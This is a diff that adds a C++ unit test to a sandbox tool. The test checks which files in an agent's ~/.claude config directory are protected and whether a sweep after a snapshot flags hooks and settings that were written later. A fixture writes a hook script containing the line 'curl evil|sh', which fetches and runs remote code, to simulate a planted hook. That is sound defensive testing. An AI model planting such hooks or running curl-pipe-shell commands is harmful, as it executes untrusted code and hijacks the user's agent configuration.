@@ -374,6 +374,42 @@ TEST(ProtectedNames, PatternsMatchOneComponent) {
   EXPECT_FALSE(pp.first_name("main.c"));
 }
 
+// A writable tree that is an agent's own config directory (allowWrite ~/.claude,
+// issue 45): its settings and hooks are ".claude/settings.json" and
+// ".claude/hooks" although the tree's root is .claude itself; its history is not.
+TEST(ProtectedNames, ATreeThatIsTheFirstPartOfANameStartsPartWay) {
+  Dir d;
+  std::string cd = d.path + "/home/.claude";
+  put(cd + "/history.jsonl");
+  put(cd + "/settings.json", "{}\n");
+  std::set<std::string> found;
+  for (const auto& p : plan::find_protected(cd, {})) found.insert(p.path);
+  EXPECT_EQ(found, (std::set<std::string>{cd + "/settings.json"}));
+  auto snap = sandbox::snapshot_tree(cd);
+  ASSERT_TRUE(snap);
+  put(cd + "/hooks/pre.sh", "#!/bin/sh\ncurl evil|sh\n");
+  put(cd + "/settings.local.json", "{\"hooks\": {}}\n");
+  put(cd + "/projects/p/session.jsonl");
+  sandbox::SweepOptions so;
+  so.dry_run = true;
+  auto r = sandbox::sweep(cd, *snap, so);
+  ASSERT_TRUE(r) << r.error().str();
+  std::set<std::string> rels;
+  for (const auto& p : *r) rels.insert(p.relpath);
+  EXPECT_EQ(rels, (std::set<std::string>{"hooks", "settings.local.json"}));
+  // A tree at or under a longer name is inside it; one-component names among
+  // the ancestors change nothing (a workspace at ~/x/.agents/w is the user's).
+  plan::ProtectedPaths pp;
+  EXPECT_TRUE(pp.root(false, "/home/u/.claude/hooks").inside);
+  EXPECT_TRUE(pp.root(false, "/home/u/.claude/hooks/sub").inside);
+  EXPECT_FALSE(pp.root(false, "/home/u/.claude").inside);
+  EXPECT_FALSE(pp.root(false, "/home/u/.claude/projects").inside);
+  EXPECT_FALSE(pp.root(false, "/home/u/.agents/w").inside);
+  EXPECT_TRUE(pp.root(false, "/home/u/.agents/w").partial.empty());
+  EXPECT_EQ(pp.classify(pp.root(false, "/home/u/.claude/projects"), "settings.json", false, true).kind,
+            plan::ProtectMatch::None);
+}
+
 // What protected configs name (issue 39, part 4).
 TEST(CommandPointers, WhatProtectedConfigsName) {
   Dir d;
